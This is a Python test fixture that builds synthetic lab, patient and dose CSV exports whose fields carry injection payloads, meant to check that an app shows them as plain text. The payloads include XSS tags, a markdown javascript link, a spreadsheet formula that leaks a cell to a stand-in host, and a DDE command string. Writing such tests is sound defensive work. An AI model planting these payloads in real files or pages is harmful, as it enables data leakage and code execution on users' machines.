"""Hostile strings a lab export can carry in any text field, and a file that carries them.

Used by the security tests (exports, markdown, the browser): each must be shown and
exported as plain text, never run as HTML, script, markdown or a spreadsheet formula.
"""

from __future__ import annotations

XSS_ID = "<img src=x onerror=alert(1)>"
FORMULA_ID = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")'
MD_LINK_ID = "[click](javascript:alert(2))"
MD_IMAGE_ID = "![x](http://evil.invalid/pixel.png)"
SCRIPT_NAME = "<script>alert(3)</script>"
DDE_DIAGNOSIS = "=cmd|' /C calc'!A0"
COLOUR_DIAGNOSIS = ":red[alarm] $x^2$ @SUM(1+1) +1 -1"

PATIENT_IDS = [XSS_ID, FORMULA_ID, MD_LINK_ID, MD_IMAGE_ID]


def _q(v: str) -> str:
    return '"' + v.replace('"', '""') + '"'


def labs_csv() -> bytes:
    """A lab export whose patient ids are hostile (one low WBC each, so they are flagged)."""
    rows = ["patient_id,collected_at,test,value,unit"]
    for i, pid in enumerate(PATIENT_IDS):
        rows.append(f"{_q(pid)},2024-03-0{i + 1} 08:30,WBC,2.1,10^9/L")
        rows.append(f"{_q(pid)},2024-03-0{i + 1} 08:30,Platelets,250,10^9/L")
    return ("\n".join(rows) + "\n").encode()


def patients_csv() -> bytes:
    """Patient details whose free text is hostile."""
    rows = ["patient_id,sex,dob,diagnosis"]
    rows.append(f"{_q(XSS_ID)},F,1980-02-03,{_q(SCRIPT_NAME)}")
    rows.append(f"{_q(FORMULA_ID)},M,1975-05-06,{_q(DDE_DIAGNOSIS)}")
    rows.append(f"{_q(MD_LINK_ID)},F,1990-01-01,{_q(COLOUR_DIAGNOSIS)}")
    rows.append(f"{_q(MD_IMAGE_ID)},M,1960-07-08,{_q(MD_IMAGE_ID)}")
    return ("\n".join(rows) + "\n").encode()


def doses_csv() -> bytes:
    rows = ["patient_id,drug,dose,unit,frequency,start"]
    for pid in PATIENT_IDS:
        rows.append(f"{_q(pid)},Azathioprine,100,mg,daily,2024-01-01")
    return ("\n".join(rows) + "\n").encode()
